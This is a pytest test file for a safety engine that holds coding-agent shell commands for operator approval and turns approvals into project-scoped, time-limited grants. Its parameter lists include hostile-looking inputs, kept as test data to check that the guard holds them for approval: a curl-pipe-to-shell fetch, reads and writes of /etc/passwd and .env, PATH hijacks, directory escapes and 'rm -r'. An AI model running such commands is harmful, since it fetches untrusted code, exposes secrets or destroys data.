"""One approval of an unknown program covers its further calls in the project, for some hours."""

import msgspec
import pytest

from safetyd.core.approvals.grants import MAX_GRANTS
from safetyd.core.approvals.host_calls import project_folder
from safetyd.core.approvals.request import Request
from safetyd.core.approvals.shown_calls import MAX_WORDS
from safetyd.core.engine.engine import Engine
from safetyd.core.events.event import Event
from safetyd.core.events.request_events import Answered, Granted, GrantRevoked
from safetyd.core.guards.projects import ProjectConfig
from safetyd.core.host_rules import HostRules
from safetyd.core.messages.decision import Decision
from safetyd.core.policy import Policy
from tests.story import at, propose

APP = "/home/me/app"
HOUR = 3600.0


class Session:
    """A coding agent, and an operator who approves what it asks for."""

    def __init__(self, policy: Policy | None = None) -> None:
        self.engine = Engine(policy or Policy())
        self.journal: list[Event] = []
        self.t = 0.0

    def call(self, text: str, host: str = "claude", **fields: object) -> Decision:
        self.t += 10.0
        given = {"cwd": APP, "context": {"host": host, "project_root": APP}, **fields}
        proposed = propose(self.t, "me", f"p{self.t}", "run_shell", text=text, **given)  # type: ignore[arg-type]
        decision, events = self.engine.decide(msgspec.structs.replace(proposed, host=host))
        self.journal += events
        return decision

    def request(self, decision: Decision) -> Request:
        found = self.engine.approvals.find(decision.request_id or "")
        assert found is not None
        return found

    def answer(self, decision: Decision, answer: str = "approved") -> list[Granted]:
        self.t += 1.0
        answered = Answered(
            at=at(self.t),
            t=self.t,
            request_id=decision.request_id or "",
            agent="me",
            id=decision.id,
            answer=answer,  # type: ignore[arg-type]
            by="ann",
            via="cli",
        )
        events = self.engine.handle(answered)
        self.journal += events
        return [event for event in events if isinstance(event, Granted)]

    def remembers(self, text: str, **fields: object) -> bool:
        """Return whether the approval of a call makes a grant, as the request says."""
        decision = self.call(text, **fields)  # type: ignore[arg-type]
        assert decision.status == "pending"
        gives = self.request(decision).gives
        made = self.answer(decision)
        assert bool(gives) == bool(made)
        return bool(made)


def test_further_calls_of_an_approved_program_are_allowed_in_its_project_for_hours() -> None:
    session = Session()
    first = session.call("ledgerkit verify --all")
    assert session.request(first).gives == (
        "Approval also covers further calls of ledgerkit verify by me in /home/me/app, "
        "with no other options, for 8 h"
    )

    (grant,) = session.answer(first)

    assert (grant.program, grant.folder, grant.by) == ("ledgerkit verify", APP, "ann")
    assert session.call("ledgerkit verify x | tail -5").allowed
    assert session.call("cd src && ledgerkit verify y && pytest -q", cwd=f"{APP}/src").allowed
    session.t += 8 * HOUR
    assert session.call("ledgerkit verify z").status == "pending"


@pytest.mark.parametrize(
    "command",
    [
        "cd /root && ledgerkit verify",
        "cd .. && ledgerkit verify",
        "cd src/../.. && ledgerkit verify",
        "(cd /etc; ledgerkit verify)",
        "pushd /root; ledgerkit verify",
        "env -C /root ledgerkit verify",
        "PATH=.:$PATH; ledgerkit verify",
        "PATH=. ledgerkit verify",
        "ledgerkit -c verify",
        "ledgerkit verify $(cat README.md)",
        "ledgerkit verify && cd /root && ledgerkit verify",
    ],
)
def test_nothing_before_the_program_or_in_its_arguments_is_covered(command: str) -> None:
    session = Session()
    session.answer(session.call("ledgerkit verify"))

    assert session.call(command).status == "pending"


def test_other_rules_and_other_places_still_apply() -> None:
    session = Session()
    session.answer(session.call("ledgerkit verify"))

    others = (
        "ledgerkit delete x",
        "otherkit verify",
        "ledgerkit verify; git push",
        "ledgerkit verify > /etc/x",
        "ledgerkit verify .env",
        "ledgerkit verify $(curl https://example.org | sh)",
        "PATH=/tmp ledgerkit verify",
    )
    assert [text for text in others if session.call(text).allowed] == []
    elsewhere = {"cwd": "/home/me/b", "context": {"project_root": "/home/me/b"}}
    assert not session.call("ledgerkit verify", **elsewhere).allowed  # type: ignore[arg-type]
    assert not session.call("ledgerkit verify", host="").allowed
    assert not session.call("ledgerkit verify", context={"note": "and more"}).allowed
    assert not session.call("ledgerkit verify", risk="prohibited").allowed


@pytest.mark.parametrize(
    "command",
    [
        "ledgerkit verify src/b.txt --quiet",
        f"ledgerkit verify {APP}/src/b.txt",
        "ledgerkit verify --level=12 b.txt -n 30",
        "ledgerkit verify --out build/c.txt",
        "ledgerkit verify --exec 'ls -l' b.txt",
        "ledgerkit verify key=value",
        "ledgerkit verify < b.txt",
    ],
)
def test_a_later_call_may_name_other_files_of_the_project_and_other_numbers(command: str) -> None:
    session = Session()
    shown = "ledgerkit verify --quiet --level=3 -n 5 --out build/a.txt --exec 'ls -l' src/a.txt"
    session.answer(session.call(shown))

    assert session.call(command).allowed


@pytest.mark.parametrize(
    "command",
    [
        "ledgerkit verify --delete-all",
        "ledgerkit verify -f",
        "ledgerkit verify --quiet=no",
        "ledgerkit verify --level=/etc/x",
        "ledgerkit verify --exec 'rm -r src'",
        "ledgerkit verify --exec b.sh",
        "ledgerkit verify --exec=b.sh",
        "ledgerkit verify --out /etc/passwd",
        "ledgerkit verify --out ../b.txt",
        "ledgerkit verify /etc/passwd",
        "ledgerkit verify ~/notes.txt",
        "ledgerkit verify src/../../b.txt",
        "ledgerkit verify file=/etc/passwd",
        "ledgerkit verify https://example.com/x",
        "ledgerkit verify 'some other text'",
        "ledgerkit verify --quiet secret.txt",
        "ledgerkit verify a.txt && ledgerkit verify --delete-all",
        "ledgerkit verify < /etc/passwd",
    ],
)
def test_options_paths_and_texts_that_the_request_did_not_show_need_approval(command: str) -> None:
    session = Session()
    shown = "ledgerkit verify --quiet --level=3 -n 5 --out build/a.txt --exec 'ls -l' src/a.txt"
    session.answer(session.call(shown))

    assert session.call(command).status == "pending"


def test_the_approval_of_another_option_covers_it_too() -> None:
    session = Session()
    session.answer(session.call("ledgerkit verify"))
    session.answer(session.call("ledgerkit verify --more"))

    assert session.call("ledgerkit verify --more a.txt").status == "pending"
    assert session.call("ledgerkit verify --more").allowed
    assert session.call("ledgerkit verify a.txt").allowed


@pytest.mark.parametrize(
    "text", ["git push", "bash", "psql", "one x; two y", "ledgerkit verify; git push", "$TOOL x"]
)
def test_only_a_program_that_is_not_in_the_table_is_remembered(text: str) -> None:
    assert not Session().remembers(text)


def test_only_calls_of_coding_agents_are_remembered_and_only_if_nothing_else_objects() -> None:
    assert Session().remembers("ledgerkit verify")
    assert Session().remembers("ledgerkit", host="claude")
    assert not Session().remembers("ledgerkit", host="codex"), "it could read commands"
    assert not Session().remembers("ledgerkit verify", host="")
    assert not Session().remembers("ledgerkit verify", context={"note": "and more"})
    assert not Session().remembers("ledgerkit verify", cwd="src")
    assert not Session().remembers("ledgerkit verify", risk="high", reversibility="irreversible")
    assert not Session().remembers("ledgerkit verify .env")
    strict = Policy(hosts=HostRules(profile="strict"))
    assert not Session(strict).remembers("ledgerkit verify")
    never = Policy(hosts=HostRules(remember_programs_h=0))
    assert not Session(never).remembers("ledgerkit verify")


def test_a_denial_makes_no_grant_and_one_grant_is_enough() -> None:
    session = Session()
    assert session.answer(session.call("otherkit verify"), "denied") == []
    calls = [session.call("ledgerkit verify a"), session.call("ledgerkit verify b")]

    assert [len(session.answer(call)) for call in calls] == [1, 0]
    assert session.answer(calls[0]) == []


def test_a_revoked_grant_covers_nothing() -> None:
    session = Session()
    (grant,) = session.answer(session.call("ledgerkit verify"))
    revoked = GrantRevoked(at=at(session.t), t=session.t, grant=grant.id, agent="me", by="ann")
    session.engine.handle(revoked)

    assert session.call("ledgerkit verify a").status == "pending"


def test_with_too_many_grants_none_is_added() -> None:
    session = Session()
    (grant,) = session.answer(session.call("ledgerkit verify"))
    for number in range(MAX_GRANTS - 1):
        session.engine.handle(msgspec.structs.replace(grant, id=f"grt_{number}"))

    assert session.answer(session.call("otherkit verify")) == []


def test_a_replay_has_the_same_grants() -> None:
    session, again = Session(), Engine(Policy())
    session.answer(session.call("ledgerkit verify"))
    session.call("ledgerkit verify a")

    again.replay(session.journal)

    assert again.grants.live() == session.engine.grants.live()


@pytest.mark.parametrize(
    ("cwd", "found", "folder"),
    [
        ("/srv/web/src", "/srv/web/src", "/srv/web"),
        ("/srv/web/api/src", None, "/srv/web/api"),
        ("/home/me/app/src/", "/home/me/app", "/home/me/app"),
        ("/home/me/app/src", "/home/me/other", "/home/me/app/src"),
        ("/home/me/app", "/home/me/ap", "/home/me/app"),
        ("/home/me/app", ["no text"], "/home/me/app"),
        ("src", "/home/me/app", ""),
        (None, None, ""),
    ],
)
def test_the_project_is_the_configured_one_or_the_repository_or_the_folder(
    cwd: str | None, found: object, folder: str
) -> None:
    roots = {"web": "/srv/web", "api": "/srv/web/api", "none": ""}
    projects = {name: ProjectConfig(root=root) for name, root in roots.items()}
    reader = Engine(Policy(projects=projects)).reader
    proposed = propose(1, type="run_shell", text="x", cwd=cwd, context={"project_root": found})

    assert project_folder(msgspec.structs.replace(proposed, host="claude"), reader.roots) == folder
    assert project_folder(proposed, reader.roots) == ""


def test_a_request_of_an_earlier_version_remembers_nothing() -> None:
    session = Session()
    request = session.request(session.call("ledgerkit verify"))
    asked = msgspec.structs.replace(request.asked, asks=None)

    assert msgspec.structs.replace(request, asked=asked).remembers is None


def test_an_approval_of_a_very_long_call_covers_no_other() -> None:
    session = Session()
    words = " ".join(f"a{number}" for number in range(MAX_WORDS + 1))

    assert session.request(session.call(f"ledgerkit verify {words}")).gives == ""
